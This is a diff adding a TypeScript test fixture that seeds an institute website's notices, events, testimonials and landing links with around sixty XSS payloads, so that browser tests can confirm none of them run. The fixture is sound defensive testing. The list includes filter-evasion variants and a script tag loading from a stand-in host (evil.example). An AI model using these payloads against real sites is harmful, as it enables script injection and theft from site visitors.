@@ -1,0 +1,136 @@
+// An institute whose content is hostile: classic and modern XSS payloads in notice titles,
+// descriptions, document names, links, event text and landing content. Every payload, if it
+// ever ran, would set window.__xss or open a dialog; the browser tests check neither happens.
+import { createHash } from "node:crypto";
+import type { Bundle } from "#contract/index.ts";
+import type { BundleSource } from "#server/content/bundle-io.server.ts";
+import { minimalTenant } from "#server/demo/minimal.server.ts";
+import { pdf } from "#server/demo/media.ts";
+
+export const HOSTILE_HOST = "xss.localhost";
+
+const RUN = "window.__xss=1";
+
+/** Payloads aimed at HTML, attributes, URLs, CSS, SVG, templates and parser quirks. */
+export const XSS_PAYLOADS: readonly string[] = [
+  `<script>${RUN}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img src="x" onerror=${RUN}>`,
+  `<IMG SRC="javascript:${RUN}">`,
+  `<svg onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<body onload=${RUN}>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<a href="javascript:${RUN}">click</a>`,
+  `<a href="JaVaScRiPt:${RUN}">click</a>`,
+  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">x</a>`,
+  `<a href="java\tscript:${RUN}">tab</a>`,
+  `<a href=" javascript:${RUN}">space</a>`,
+  `<a href="data:text/html,<script>${RUN}</script>">data</a>`,
+  `<a href="vbscript:msgbox(1)">vb</a>`,
+  `<a href="https://example.org" onclick="${RUN}">onclick</a>`,
+  `<a href="https://example.org" onmouseover="${RUN}">hover</a>`,
+  `<div style="background:url(javascript:${RUN})">css</div>`,
+  `<div style="width:expression(${RUN})">ie</div>`,
+  `<style>@import 'javascript:${RUN}';</style>`,
+  `<link rel="stylesheet" href="javascript:${RUN}">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  `<base href="javascript:${RUN}//">`,
+  `<form action="javascript:${RUN}"><button>go</button></form>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<select autofocus onfocus=${RUN}></select>`,
+  `<textarea autofocus onfocus=${RUN}></textarea>`,
+  `<details open ontoggle=${RUN}>`,
+  `<video><source onerror="${RUN}"></video>`,
+  `<audio src=x onerror=${RUN}>`,
+  `<marquee onstart=${RUN}>m</marquee>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<template><img src=x onerror=${RUN}></template>`,
+  `"><script>${RUN}</script>`,
+  `'><img src=x onerror=${RUN}>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `<!--<img src="--><img src=x onerror=${RUN}//">`,
+  `<img src=x:alert(1) onerror=eval(src)>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<img/src/onerror=${RUN}>`,
+  `<svg/onload=${RUN}>`,
+  `<x onclick=${RUN} style=display:block>click me</x>`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `<img src="x" onerror="&#119;&#105;&#110;&#100;&#111;&#119;.__xss=1">`,
+  `<a href="#" onfocus="${RUN}" autofocus tabindex="1">f</a>`,
+  `<table background="javascript:${RUN}">`,
+  `<isindex action="javascript:${RUN}" type=image>`,
+  `<button formaction="javascript:${RUN}">b</button>`,
+  `<image src=x onerror=${RUN}>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
+  `<a href="https://example.org"onmouseover="${RUN}">quote</a>`,
+];
+
+function idOf(seed: string): string {
+  return createHash("sha256").update(`hostile-${seed}`).digest("hex").slice(0, 24);
+}
+
+export function hostileTenant(): BundleSource {
+  const base = minimalTenant(9999);
+  const json: Bundle = structuredClone(base.json);
+  const media = new Map(base.media);
+  json.hosts = [HOSTILE_HOST];
+  json.institute.insName = `Hostile <script>${RUN}</script> College`;
+  json.profile.insName = json.institute.insName;
+  const docKey = "hostile/doc.pdf";
+  media.set(docKey, pdf("hostile", { title: "Hostile", lines: ["A harmless file."] }));
+  json.notices = XSS_PAYLOADS.map((payload, i) => ({
+    _id: idOf(`notice-${i}`),
+    insAnnTitle: `Notice ${i + 1} ${payload}`,
+    insAnnDescription: `<p>Payload ${i + 1}:</p>${payload}<p><a href="https://example.org/ok">safe link</a></p>`,
+    createdAt: new Date(Date.UTC(2026, 0, 1 + i)).toISOString(),
+    announcementDocument: [
+      {
+        _id: idOf(`doc-${i}`),
+        documentName: `Doc ${payload}`,
+        documentKey: docKey,
+        documentType: "application/pdf",
+      },
+    ],
+  }));
+  json.events = XSS_PAYLOADS.slice(0, 20).map((payload, i) => ({
+    _id: idOf(`event-${i}`),
+    event_name: `Event ${i + 1} ${payload}`,
+    event_date: new Date(Date.UTC(2026, 1, 1 + i)).toISOString(),
+    event_guest: payload,
+    event_place: payload,
+    event_description: payload,
+    attendance: [{ _id: idOf(`att-${i}`), name: payload, attach: docKey }],
+    notice: [],
+    permission_letter: [],
+    report: [],
+    other: [],
+  }));
+  json.profile.testimonials = XSS_PAYLOADS.slice(20, 26).map((payload, i) => ({
+    _id: idOf(`testimonial-${i}`),
+    name: payload,
+    bio: `${payload} `.repeat(8),
+    course: payload,
+    highlighted: i === 0,
+  }));
+  json.profile.landing_control.home_opener_quick_links = [
+    {
+      _id: idOf("ql-1"),
+      name: XSS_PAYLOADS[0] ?? "",
+      typo: "YES",
+      link_images: "https://example.org/?q=<script>",
+    },
+    { _id: idOf("ql-2"), name: XSS_PAYLOADS[2] ?? "", typo: "NO", link_images: docKey },
+  ];
+  json.profile.landing_control.footer_links.how_to_reach = XSS_PAYLOADS[3] ?? "";
+  return { json, media };
+}
